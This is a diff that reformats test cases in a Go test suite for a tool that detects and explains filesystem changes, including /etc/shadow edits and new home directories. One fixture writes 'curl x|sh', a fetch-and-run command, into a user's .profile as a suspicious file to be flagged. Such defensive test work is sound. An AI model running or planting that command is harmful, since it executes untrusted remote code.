@@ -215,15 +215,18 @@ func TestChangesAndTheirExplanations(t *testing.T) {
 			},
 		},
 		"a new user, and the password of another": {
-			golden().text("/etc/shadow", "root:$6$x:1\nana:!:1\neve:!:1\n"), Options{Accounts: eve},
+			golden().text("/etc/shadow", "root:$6$x:1\nana:!:1\neve:!:1\n"),
+			Options{Accounts: eve},
 			[]string{"/etc/shadow changed content: resized [unexplained]"},
 		},
 		"another password of a user whose shell changed": {
-			golden().text("/etc/shadow", "root:!:1\nana:$6:1\n"), Options{Accounts: Accounts{Touched: map[string]bool{"ana": true}}},
+			golden().text("/etc/shadow", "root:!:1\nana:$6:1\n"),
+			Options{Accounts: Accounts{Touched: map[string]bool{"ana": true}}},
 			[]string{"/etc/shadow changed content: resized [unexplained]"},
 		},
 		"a home with more than its skeleton": {
-			golden().with("/home/eve/.profile", memfs.File{Data: "curl x|sh\n", UID: 1}), Options{Accounts: eve},
+			golden().with("/home/eve/.profile", memfs.File{Data: "curl x|sh\n", UID: 1}),
+			Options{Accounts: eve},
 			[]string{"/home added  [unexplained]", "/home/eve added  [facts] the new user eve", "/home/eve/.profile added  [unexplained]"},
 		},
 	} {
